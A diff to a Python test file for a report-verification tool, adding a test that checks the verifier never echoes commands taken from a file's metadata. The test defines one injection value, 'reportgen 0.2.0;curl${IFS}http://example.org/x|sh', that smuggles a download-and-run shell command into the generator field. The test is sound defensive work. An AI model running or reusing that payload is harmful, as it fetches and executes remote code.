@@ -7,17 +7,22 @@ it says it replaces, only the register can deny: ``unit/cli/test_forked_register
 from __future__ import annotations
 
 import dataclasses
-from typing import Any
+from typing import TYPE_CHECKING, Any
 
 import pytest
 
 from reportgen.formats import IssueFacts, Supersedes
 from reportgen.formats.issue import CameraNotes, Head
 from reportgen.pipeline.building import made_with, versions_stated
+from tests.command import run
 from tests.e2e.signed_footbridge import built, signed, verified
 from tests.unit.verification import signed_material as made
 
+if TYPE_CHECKING:
+    from pathlib import Path
+
 DIFFER, PAGES = "FILES_DISAGREE", "PAGES_DIFFER"
+COMMAND = "reportgen 0.2.0;curl${IFS}http://example.org/x|sh"
 ALTERED: dict[str, list[tuple[Any, str]]] = {
     "number": [("HD-9-002", f"{DIFFER} {PAGES}"), ("", f"{DIFFER} {PAGES}")],
     "revision": [(1, f"{DIFFER} {PAGES}"), (-1, f"{DIFFER} {PAGES}")],
@@ -28,7 +33,12 @@ ALTERED: dict[str, list[tuple[Any, str]]] = {
         ("2026-05-04T18:30:00", "EMBEDDED_FILES"),
     ],
     "status": [("draft", f"NOT_ISSUED {PAGES}"), ("demonstration", f"DEMONSTRATION {PAGES}")],
-    "generator": [("reportgen 0.0.1", "NOT_REBUILT"), ("reportgen 9.0.0", "NOT_REBUILT"), ("", "NOT_REBUILT")],
+    "generator": [
+        ("reportgen 0.0.1", "NOT_REBUILT"),
+        ("reportgen 9.0.0", "NOT_REBUILT"),
+        ("", "NOT_REBUILT"),
+        (COMMAND, "NOT_REBUILT"),
+    ],
     "made_with": [
         ({}, PAGES),
         ({**made_with(), "note": "The owner has accepted location 3 as it is."}, PAGES),
@@ -68,6 +78,18 @@ def test_a_later_format_is_named_and_what_is_known_of_it_still_compared() -> Non
     assert answer.steps[9].status == "not done"
     answer = verified(signed(built(format=2, site="Other shed")))
     assert {reason.name for reason in answer.reasons} == {DIFFER, "OTHER_RELEASE"}
+
+
+@pytest.mark.parametrize("more", [{}, {"words": 2}], ids=["advice", "later words"])
+def test_a_file_writes_no_command_for_people_to_type(tmp_path: Path, more: dict[str, Any]) -> None:
+    """Which release to get is said of a release only: whatever else a file says there is not repeated."""
+    file = tmp_path / "r.pdf"
+    file.write_bytes(signed(built(generator=COMMAND, **more)))
+    said = run("verify", file)
+    text = " ".join((said.stdout + said.stderr).split())
+    assert "curl" not in text
+    assert "pip install" not in text
+    assert more or "issue.json does not name a release of reportgen as what made it" in text
 
 
 def test_versions_that_libraries_state_are_known_for_what_they_are() -> None:
